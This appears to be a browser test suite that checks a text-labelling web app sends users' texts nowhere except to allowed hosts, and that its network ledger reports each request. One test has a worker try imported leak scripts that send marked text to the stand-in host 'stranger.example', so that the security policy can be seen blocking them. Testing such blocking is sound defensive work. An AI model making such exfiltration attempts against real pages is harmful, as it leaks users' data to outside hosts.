/** @file Every request of whole runs, seen from outside the browser, and what the page says of them. */
import { cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Browser, BrowserContext, Page } from 'playwright';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { serveDist } from '../../../scripts/serve-dist.mjs';
import { waitUntilDone } from '../../bench/driving/page.mjs';
import { SentenceModel } from '../../helpers/sentence-model';
import {
  allowNetwork,
  dropFiles,
  launchThrifty,
  openPage,
  waitForRun,
  waitUntilKept,
} from '../browser';
import { HELD_AFTER, holdTraining, releaseTraining, waitUntilHeld } from '../held-training';
import { PageChatServer } from '../teachers/chat-server';
import { RecordingProxy, type SeenRequest } from './recording-proxy';
import { violationsOf } from './violations';
import { SCRIPT_LEAKS, tryWayOut, WORKER_LEAKS } from './ways-out';

/** In every text, so that a text is known wherever it goes. */
const MARK = 'dog horse cat dog';
const ROWS = Array.from({ length: 24 }, (_, i) => `${MARK} ${i % 2 ? 'one' : 'two'},animals`);
const TABLE = `text,candidates\n${ROWS.join('\n')}\n`;
const recipeOf = (parts: object) =>
  JSON.stringify({
    shortlist: 1,
    task: {
      textColumn: 'text',
      labels: [
        { name: 'animals', keywords: ['dog'] },
        { name: 'numbers', keywords: ['one'] },
      ],
    },
    labels: { policy: 'student' },
    ...parts,
  });

describe('a whole run, seen from outside', () => {
  const proxy = new RecordingProxy();
  let browser: Browser;
  let dist: { url: string; close: () => Promise<void> };
  let hub: { url: string; close: () => Promise<void> };
  const folder = mkdtempSync(join(tmpdir(), 'ledger-'));

  beforeAll(async () => {
    cpSync(
      fileURLToPath(new URL('../../fixtures/bert-tiny', import.meta.url)),
      join(folder, 'tuned'),
      {
        recursive: true,
      },
    );
    const files = new SentenceModel(['dog', 'cat', 'horse', 'one', 'two']).files();
    for (const [path, bytes] of files) {
      const file = join(folder, 'sentences', path);
      mkdirSync(dirname(file), { recursive: true });
      writeFileSync(file, bytes);
    }
    mkdirSync(join(folder, 'llm'));
    for (const [name, content] of Object.entries(LANGUAGE_MODEL)) {
      writeFileSync(join(folder, 'llm', name), content);
    }
    dist = await serveDist();
    hub = await serveDist({ hub: folder });
    browser = await launchThrifty({ gpu: true, flags: await proxy.start() });
  });
  afterAll(async () => {
    await browser.close();
    await proxy.stop();
    await dist.close();
    await hub.close();
    rmSync(folder, { recursive: true });
  });
  afterEach(async () => {
    for (const context of browser.contexts()) await context.close();
    proxy.seen.length = 0;
  });

  async function begin(
    recipe: string,
    prepare: (context: BrowserContext) => Promise<void> = () => Promise.resolve(),
  ): Promise<{ page: Page; violations: string[] }> {
    const context = await browser.newContext({ serviceWorkers: 'allow' });
    await prepare(context);
    const { page } = await openPage(context, dist.url);
    const violations = violationsOf(context, page);
    await waitUntilKept(page);
    await dropFiles(page, { 'table.csv': TABLE, 'my.recipe.json': recipe });
    return { page, violations };
  }

  async function ledgerOf(page: Page): Promise<string> {
    await page.click('[data-testid=go-start]');
    return (await page.textContent('[data-testid=network-ledger]')) ?? '';
  }

  /** Nothing but files of this model was fetched, from its hub. */
  function expectFilesOf(model: string): SeenRequest[] {
    const beyond = proxy.beyond(dist.url);
    expect(beyond.length).toBeGreaterThan(0);
    for (const { method, origin, path } of beyond) {
      expect(['GET', 'OPTIONS']).toContain(method);
      expect(`${origin}${path}`).toContain(`${hub.url}hub/${model}/resolve/main/`);
    }
    return beyond;
  }

  const texts = () => proxy.seen.filter(({ path, body }) => hasText(path) || hasText(body));
  const hasText = (part: string) => decodeURIComponent(part).replaceAll('+', ' ').includes(MARK);

  test('keywords and n-grams: nothing but the page’s own files', async () => {
    const { page, violations } = await begin(recipeOf({ student: { epochs: 2 } }));
    await waitUntilDone(page);
    expect(proxy.beyond(dist.url)).toEqual([]);
    const own = proxy.seen.filter(({ origin }) => origin === new URL(dist.url).origin);
    expect(own.every(({ method, body }) => method !== 'POST' && body === '')).toBe(true);
    expect(texts()).toEqual([]);
    expect(violations).toEqual([]);
    expect(await ledgerOf(page)).toContain('nothing was asked of any host');
  });

  test('an encoder from a hub: files of that model from that host, and no text', async () => {
    const baseUrl = `${hub.url}hub`;
    const student = { kind: 'encoder-head', model: 'sentences', baseUrl, epochs: 2 };
    const { page, violations } = await begin(recipeOf({ student }));
    await allowNetwork(page);
    await waitUntilDone(page);
    const beyond = expectFilesOf('sentences');
    expect(texts()).toEqual([]);
    expect(violations).toEqual([]);
    const ledger = await ledgerOf(page);
    for (const { path } of beyond) expect(ledger).toContain(path);
  });

  test('an encoder that is trained: the same, and no other way is open while it learns', async () => {
    const baseUrl = `${hub.url}hub`;
    const settings = { epochs: HELD_AFTER + 1, executionProvider: 'wasm' };
    const student = { kind: 'encoder', model: 'tuned', baseUrl, ...settings };
    // No further students are trained for these targets.
    const refinery = { mode: 'full', weights: 'score' };
    const { page, violations } = await begin(recipeOf({ student, refinery }), holdTraining);
    await allowNetwork(page);
    await waitUntilHeld(page);
    expect(violations).toEqual([]);
    const [worker] = page.workers();
    if (!worker) throw new Error('No worker is at work.');
    for (const [, script] of [...WORKER_LEAKS, ...SCRIPT_LEAKS]) {
      await tryWayOut(worker, script, `http://stranger.example/?${MARK}`);
    }
    // So what the worker's policy stops is seen here.
    await expect.poll(() => violations.join()).toContain('of a worker: script-src');
    violations.length = 0;
    await releaseTraining(page);
    await waitUntilDone(page);
    expectFilesOf('tuned');
    expect(texts()).toEqual([]);
    expect(violations).toEqual([]);
  });

  test('an endpoint: texts to the host that was allowed, and the ledger tells without repeating them', async () => {
    const server = new PageChatServer(() => ['animals']);
    const url = await server.start();
    const teacher = { kind: 'endpoint', url, model: 'm' };
    const { page, violations } = await begin(recipeOf({ teacher, student: { epochs: 2 } }));
    await page.waitForSelector('[data-testid=allow-network]');
    expect(proxy.beyond(dist.url)).toEqual([]);
    await allowNetwork(page);
    await waitUntilDone(page);
    expect(new Set(proxy.beyond(dist.url).map(({ origin }) => origin))).toEqual(
      new Set([new URL(url).origin]),
    );
    expect(texts().every(({ method, path }) => method === 'POST' && !hasText(path))).toBe(true);
    expect(violations).toEqual([]);
    const ledger = await ledgerOf(page);
    expect(ledger).toContain(`POST ${new URL(url).host}/v1/chat/completions`);
    expect(ledger).toContain(`to be labelled${server.asked.length}`);
    expect(hasText(ledger)).toBe(false);
    await server.stop();
  });

  test('WebLLM loads a model as far as there is one: its files, and no text', async () => {
    const modelUrl = `${hub.url}hub/llm/resolve/main/`;
    const teacher = { kind: 'webllm', model: 'mine', modelUrl };
    const { page, violations } = await begin(recipeOf({ teacher }));
    await allowNetwork(page);
    await waitForRun(page, 'failed');
    const paths = proxy.beyond(dist.url).map(({ path }) => path);
    expect(paths.some((path) => path.endsWith('/mlc-chat-config.json'))).toBe(true);
    expect(paths.some((path) => path.endsWith('/lib.wasm'))).toBe(true);
    expect(proxy.beyond(dist.url).every(({ origin }) => `${origin}/` === hub.url)).toBe(true);
    expect(texts()).toEqual([]);
    expect(violations).toEqual([]);
  });
});

/** As much of a language model as is loaded before its library turns out to be none. */
const LANGUAGE_MODEL = {
  'mlc-chat-config.json': JSON.stringify({ model_type: 'x', tokenizer_files: ['tokenizer.json'] }),
  'tensor-cache.json': JSON.stringify({
    metadata: { ParamSize: 0, ParamBytes: 0, BitsPerParam: 4 },
    records: [],
  }),
  'tokenizer.json': '{}',
  'lib.wasm': 'no library',
};
